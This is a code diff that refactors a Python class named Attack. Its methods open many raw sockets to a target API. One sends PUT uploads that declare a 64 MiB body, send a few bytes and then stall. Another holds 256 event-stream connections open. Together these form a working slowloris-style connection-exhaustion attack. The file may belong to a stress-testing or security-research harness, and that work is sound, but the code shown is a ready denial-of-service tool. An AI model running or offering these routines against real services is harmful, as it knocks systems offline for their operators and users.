@@ -102,25 +102,25 @@ class Attack:
 
         self.spawn(run, 16)
 
-    def start_stalled_uploads(self):
+    def hold(self, n, request_of):
+        """Opens n connections, sends request_of(i) on each and keeps them open."""
         u = urllib.parse.urlparse(self.url)
-        for i in range(64):
+        for i in range(n):
             s = socket.create_connection((u.hostname, u.port))
-            s.sendall(
-                f"PUT /v1/files/stall/{i} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n"
-                f"Content-Length: {64 << 20}\r\n\r\na few bytes".encode()
-            )
+            s.sendall(request_of(i).encode())
             self.sockets.append(s)
 
+    def start_stalled_uploads(self):
+        self.hold(64, lambda i: (
+            f"PUT /v1/files/stall/{i} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n"
+            f"Content-Length: {64 << 20}\r\n\r\na few bytes"
+        ))
+
     def start_streams(self):
-        u = urllib.parse.urlparse(self.url)
-        for _ in range(256):
-            s = socket.create_connection((u.hostname, u.port))
-            s.sendall(
-                f"GET /v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n"
-                "Accept: text/event-stream\r\n\r\n".encode()
-            )
-            self.sockets.append(s)
+        self.hold(256, lambda _: (
+            f"GET /v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {self.key}\r\n"
+            "Accept: text/event-stream\r\n\r\n"
+        ))
 
     def start_glob(self):
         c = conn(self.url)
